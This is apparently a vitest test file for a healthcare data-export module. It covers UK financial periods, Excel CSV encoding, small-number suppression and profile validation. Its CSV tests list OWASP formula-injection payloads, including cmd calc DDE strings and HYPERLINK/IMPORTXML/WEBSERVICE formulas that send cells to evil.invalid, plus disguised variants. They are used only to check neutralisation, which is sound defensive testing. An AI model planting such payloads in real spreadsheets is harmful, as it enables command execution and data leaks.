// Periods, CSV encoding and small-number suppression: the rules a trust relies on every month.
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CATALOGUE } from '../../core/domain/export/catalogue';
import { csvField, csvLine, csvStart, EXCEL_CSV, FORMULA_PATTERN, neutraliseText, type CsvFormat } from '../../core/domain/export/csv';
import { cellWriter, formatCell } from '../../core/domain/export/format';
import { financialQuarter, financialYear, lastMonth, lastQuarter, month, previousPeriod, quarter } from '../../core/domain/export/periods';
import { profileSchema } from '../../core/domain/export/profile';
import { publishedPercent, suppressCount, suppressGroup } from '../../core/domain/export/suppression';

function csv(format: CsvFormat, header: string[], rows: string[][]): Buffer {
  return Buffer.from(csvStart(format, header) + rows.map((r) => csvLine(r, format)).join(''), 'utf8');
}

/** The same file through csv-stringify with the options the app used to pass it. */
async function viaCsvStringify(format: CsvFormat, header: string[], rows: string[][]): Promise<Buffer> {
  const s = stringify({
    delimiter: format.delimiter,
    bom: format.bom,
    record_delimiter: format.lineEnding === 'crlf' ? 'windows' : 'unix',
    header: true,
    columns: header.map((h, i) => ({ key: String(i), header: neutraliseText(h) })),
    quoted_match: [new RegExp(`^'${FORMULA_PATTERN}`), /[\r\n]/],
    quote: '"',
    escape: '"',
  });
  const chunks: Buffer[] = [];
  s.on('data', (c: Buffer | string) => chunks.push(Buffer.from(c)));
  const done = new Promise((r) => s.on('end', r));
  for (const r of rows) s.write(Object.fromEntries(r.map((v, i) => [String(i), v])));
  s.end();
  await done;
  return Buffer.concat(chunks);
}

describe('periods', () => {
  it('months know their lengths, leap days included', () => {
    expect(month(2028, 2)).toMatchObject({ start: '2028-02-01', end: '2028-02-29', label: 'February 2028' });
    expect(month(2026, 2).end).toBe('2026-02-28');
    expect(month(2026, 12)).toMatchObject({ start: '2026-12-01', end: '2026-12-31' });
  });

  it('a UK financial year runs 1 April to 31 March, with quarters from April', () => {
    expect(financialYear(2026)).toMatchObject({ start: '2026-04-01', end: '2027-03-31', label: 'Financial year 2026/27' });
    expect(financialQuarter(2026, 1)).toMatchObject({ start: '2026-04-01', end: '2026-06-30' });
    expect(financialQuarter(2026, 4)).toMatchObject({ start: '2027-01-01', end: '2027-03-31' });
    expect(quarter(2026, 1)).toMatchObject({ start: '2026-01-01', end: '2026-03-31' });
  });

  it('"last month" and "last quarter" are one step back, across year ends', () => {
    expect(lastMonth('2026-01-15')).toMatchObject({ start: '2025-12-01', end: '2025-12-31' });
    expect(lastMonth('2026-11-21')).toMatchObject({ start: '2026-10-01', end: '2026-10-31' });
    expect(lastQuarter('2026-11-21')).toMatchObject({ start: '2026-07-01', end: '2026-09-30', kind: 'financial_quarter' });
    expect(lastQuarter('2026-04-01')).toMatchObject({ start: '2026-01-01', end: '2026-03-31' });
    expect(lastQuarter('2026-03-31')).toMatchObject({ start: '2025-10-01', end: '2025-12-31' });
  });

  it('31 March and 1 April fall in different financial years', () => {
    const fy = financialYear(2025);
    expect('2026-03-31' >= fy.start && '2026-03-31' <= fy.end).toBe(true);
    expect('2026-04-01' <= fy.end).toBe(false);
  });

  it('the period before has the same kind and length', () => {
    expect(previousPeriod(month(2026, 3))).toMatchObject({ start: '2026-02-01', end: '2026-02-28' });
    expect(previousPeriod(financialQuarter(2026, 1))).toMatchObject({ start: '2026-01-01', end: '2026-03-31' });
    expect(previousPeriod({ kind: 'custom', start: '2026-03-25', end: '2026-04-03', label: '' })).toMatchObject({ start: '2026-03-15', end: '2026-03-24' });
  });

  it('the October clock change does not move a month’s edges (dates, not instants)', () => {
    // 25 October 2026: BST ends. The month is still 1–31 October.
    expect(month(2026, 10)).toMatchObject({ start: '2026-10-01', end: '2026-10-31' });
    expect(month(2026, 3)).toMatchObject({ start: '2026-03-01', end: '2026-03-31' });
  });
});

describe('CSV for Excel', () => {
  it('has a byte-order mark, CRLF line ends and one header row', async () => {
    const out = csv(EXCEL_CSV, ['a', 'b'], [['1', '2'], ['3', '4']]);
    expect([...out.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(out.toString('utf8').slice(1)).toBe('a,b\r\n1,2\r\n3,4\r\n');
  });

  it('quotes commas, quotes and line breaks, doubling inner quotes', async () => {
    const out = (csv({ ...EXCEL_CSV, bom: false }, ['x'], [['a,b'], ['say "hi"'], ['two\nlines']])).toString();
    expect(out).toBe('x\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n');
  });

  it('neutralises every formula-injection cell, and an independent parser reads back the same cells', async () => {
    const corpus = ['=HYPERLINK("http://x.invalid","click")', '+1', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '\nLF', '\0NUL', 'plain', 'a "quote"', 'comma, here', 'line\r\nbreak'];
    const cells = corpus.map(neutraliseText);
    const out = csv(EXCEL_CSV, ['cell'], cells.map((c) => [c]));
    const back = parse(out, { bom: true, columns: true, relax_column_count: false }) as { cell: string }[];
    expect(back.map((r) => r.cell)).toEqual(cells);
    for (const value of back.map((r) => r.cell).slice(0, 8)) expect(value.startsWith("'")).toBe(true);
    // Each neutralised cell is quoted in the file too.
    expect(out.toString()).toContain(`"'=HYPERLINK(""http://x.invalid"",""click"")"`);
  });

  // OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), the
  // same behind what spreadsheets skip at the start of a cell, and the fullwidth forms.
  const OWASP = [
    '=1+2";=1+2',
    '=1+2\'" ;,=1+2',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?leak="&A1&A2,"Error: click for details")',
    "=IMPORTXML(CONCAT(\"http://evil.invalid/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    '=WEBSERVICE("http://evil.invalid")',
    '\t=1+2',
    '\r=1+2',
    '\n=1+2',
    '\tplain after a tab',
    '\rplain after a carriage return',
  ];
  const DISGUISED = ['=', '+', '-', '@'].flatMap((c) => [' ', '   ', '\u00A0', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\t', '\r\n', ' \u200B\t'].map((lead) => `${lead}${c}1+1`));
  const FULLWIDTH = ['\uFF1D1+1', '\uFF0B1+1', '\uFF0D1+1', '\uFF20SUM(A1)', ' \uFF1DHYPERLINK("x")', '\u200B\uFF20x'];

  it.each([...OWASP, ...DISGUISED, ...FULLWIDTH])('neutralises %j, quoted so the apostrophe reads as text, and reads back the same', (payload) => {
    const cell = neutraliseText(payload);
    expect(cell).toBe(`'${payload}`);
    for (const delimiter of [',', ';', '\t'] as const) expect(csvField(cell, delimiter).startsWith(`"'`)).toBe(true);
    const out = csv(EXCEL_CSV, ['cell'], [[cell]]);
    expect((parse(out, { bom: true, columns: true }) as { cell: string }[])[0].cell).toBe(cell);
  });

  it('leaves ordinary text alone, and real numbers in number columns as numbers', () => {
    for (const text of ['plain', ' leading space', 'a=b', 'x-1', '1+1', "'already quoted", 'e-mail', '\u200Bword', '３']) expect(neutraliseText(text)).toBe(text);
    const change = CATALOGUE.outcomes.find((c) => c.kind === 'number')!;
    const style = { dateFormat: 'iso', codeStyle: 'code' } as const;
    // A change score of -3 is a value, not a formula: written as the number it is.
    expect(formatCell(-3, change, style)).toBe('-3');
    expect(cellWriter(change, style, ',')(-3)).toBe('-3');
    // Text that only looks like a number is neutralised, as before, with or without disguise.
    expect(formatCell('-3', change, style)).toBe("'-3");
    expect(formatCell(' -3', change, style)).toBe("' -3");
  });

  it('writes exactly what csv-stringify wrote, for any cells, delimiter, line ending and byte-order mark', async () => {
    // Cells from characters that matter to CSV and formulas, plus ordinary text and non-ASCII.
    const cell = fc.oneof(
      fc.string({ unit: fc.constantFrom('a', 'Z', '1', ' ', ',', ';', '\t', '"', "'", '\r', '\n', '=', '+', '-', '@', '\0', 'é', '€', '😀', '\u200B', '\uFEFF', '＝', '＠'), maxLength: 8 }),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('', "'=1", '=SUM(A1)', '-3', '00123'),
    );
    const row = (n: number) => fc.array(cell.map(neutraliseText), { minLength: n, maxLength: n });
    const format = fc.record({ delimiter: fc.constantFrom(',', ';', '\t'), bom: fc.boolean(), lineEnding: fc.constantFrom('crlf', 'lf') }) as fc.Arbitrary<CsvFormat>;
    await fc.assert(
      fc.asyncProperty(format, fc.integer({ min: 1, max: 4 }).chain((n) => fc.tuple(row(n), fc.array(row(n), { maxLength: 5 }))), async (f, [header, rows]) => {
        expect(csv(f, header, rows).equals(await viaCsvStringify(f, header, rows))).toBe(true);
      }),
      { numRuns: 300 },
    );
  });

  it('writes each cell for the file as formatCell shows it, made a CSV field, on every column and style', () => {
    const columns = [...CATALOGUE.referrals, ...CATALOGUE.outcomes];
    const value = fc.oneof(fc.integer({ min: -50, max: 100_000 }), fc.double({ noNaN: false }), fc.boolean(), fc.constantFrom(null, undefined, '', 0, 1, -0), fc.string({ maxLength: 12 }), fc.constantFrom('2026-10-01', 'N', 'self', '=1+1', '-3', '00123'));
    const style = fc.record({ dateFormat: fc.constantFrom('iso', 'dmy'), codeStyle: fc.constantFrom('code', 'label', 'both') }) as fc.Arbitrary<{ dateFormat: 'iso' | 'dmy'; codeStyle: 'code' | 'label' | 'both' }>;
    fc.assert(
      fc.property(fc.constantFrom(...columns), style, fc.constantFrom(',', ';', '\t') as fc.Arbitrary<CsvFormat['delimiter']>, fc.array(value, { minLength: 1, maxLength: 6 }), (column, profile, delimiter, values) => {
        const write = cellWriter(column, profile, delimiter);
        // Twice over: the second time from what the writer remembered.
        for (const v of [...values, ...values]) expect(write(v)).toBe(csvField(formatCell(v, column, profile), delimiter));
      }),
      { numRuns: 500 },
    );
  });

  it('keeps identifiers as text with their leading zeros, and dates as asked', () => {
    const hospital = CATALOGUE.referrals.find((c) => c.id === 'hospital_number')!;
    const dob = CATALOGUE.referrals.find((c) => c.id === 'date_of_birth')!;
    const ethnic = CATALOGUE.referrals.find((c) => c.id === 'ethnic_category')!;
    expect(formatCell('00123456', hospital, { dateFormat: 'iso', codeStyle: 'code' })).toBe('00123456');
    expect(formatCell('1988-04-12', dob, { dateFormat: 'iso', codeStyle: 'code' })).toBe('1988-04-12');
    expect(formatCell('1988-04-12', dob, { dateFormat: 'dmy', codeStyle: 'code' })).toBe('12/04/1988');
    expect(formatCell('N', ethnic, { dateFormat: 'iso', codeStyle: 'both' })).toBe('N Black African');
    expect(formatCell('N', ethnic, { dateFormat: 'iso', codeStyle: 'label' })).toBe('Black African');
  });
});

describe('small numbers', () => {
  const seven = { threshold: 7, roundToFive: false };
  it('hides 1 to 7, shows zero and larger counts', () => {
    expect([0, 1, 7, 8, 120].map((n) => suppressCount(n, seven))).toEqual([0, '*', '*', 8, 120]);
  });

  it('hides a second cell when the total would give a lone hidden one away', () => {
    expect(suppressGroup([40, 3, 12, 0], seven)).toEqual([40, '*', '*', 0]);
    expect(suppressGroup([40, 3, 5, 12], seven)).toEqual([40, '*', '*', 12]);
    expect(suppressGroup([40, 12], seven)).toEqual([40, 12]);
    // Without a published total there is nothing to work back from.
    expect(suppressGroup([40, 3, 12], seven, false)).toEqual([40, '*', 12]);
  });

  it('rounds to the nearest 5 when asked, and works percentages from the published numbers', () => {
    const round = { threshold: 7, roundToFive: true };
    expect(suppressGroup([42, 18, 11], round)).toEqual([40, 20, 10]);
    expect(publishedPercent(45, 76)).toBe(59.2);
    expect(publishedPercent('*', 76)).toBe('*');
    expect(publishedPercent(0, 0)).toBeNull();
  });
});

describe('export profiles', () => {
  it('refuses identifiable columns in a pseudonymised profile, and unknown or doubled columns', () => {
    const r = profileSchema.safeParse({ id: 'trust', name: 'Trust', dataset: 'referrals', columns: [{ id: 'nhs_number' }, { id: 'shoe_size' }, { id: 'case_id' }, { id: 'case_id' }] });
    expect(r.success).toBe(false);
    const messages = r.success ? [] : r.error.issues.map((i) => i.message);
    expect(messages).toEqual([
      '“NHS Number” identifies the person: it needs a profile marked identifiable.',
      'There is no column called “shoe_size” in referrals exports.',
      '“case_id” is chosen twice.',
    ]);
  });
});
